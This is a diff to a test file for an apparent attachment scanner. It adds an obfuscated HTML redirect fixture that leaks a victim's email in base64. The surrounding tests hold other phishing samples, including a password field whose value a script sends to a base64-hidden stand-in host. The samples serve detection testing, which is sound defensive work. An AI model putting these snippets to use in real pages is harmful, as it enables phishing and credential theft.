@@ -252,6 +252,10 @@ test('what lies on a virtual disk is seen', async () => {
   assert.ok(traits(items.find((item) => item.name === 'a.lnk')).includes('lnk-command'))
 })
 
+/** put together from pieces where it runs */
+const HIDDEN =
+  '<html><script>var e="a@x.jp";var p=["ht","tps://","play.exam","ple.net/","?u="].join("");setTimeout(()=>location.replace(p+btoa(e)),9)</script><body>Loading</body></html>'
+
 test('a page that only leads on, or hides where its password goes, is told; a page with links and a search form is not', async () => {
   const escaped = Buffer.from('<script>location.href="https://a.example.net/?u=1"</script>')
     .toString('hex')
@@ -260,8 +264,12 @@ test('a page that only leads on, or hides where its password goes, is told; a pa
     '<html><meta http-equiv="refresh" content="0;url=https://a.example.net/#x"></html>',
     '<html><script>window.location.replace("https://a.example.net/")</script></html>',
     `<html><script>document.write(unescape('${escaped}'))</script></html>`,
+    HIDDEN,
   ])
     assert.deepEqual(traits((await look('a.html', page))[0]), ['html-redirect'], page)
+  assert.equal(detail((await look('a.html', HIDDEN))[0], 'html-redirect'), 'https://play.example.net/?u=')
+  const long = HIDDEN.replace('Loading', 'The minutes of the meeting of May. '.repeat(12))
+  assert.deepEqual(traits((await look('a.html', long))[0]), [])
   const target = Buffer.from('https://api.example.net/bot/send').toString('base64')
   const form = `<html><input type=password id=p><script>fetch(atob("${target}"),{body:p.value})</script></html>`
   assert.equal(detail((await look('a.html', form))[0], 'html-form'), 'api.example.net')
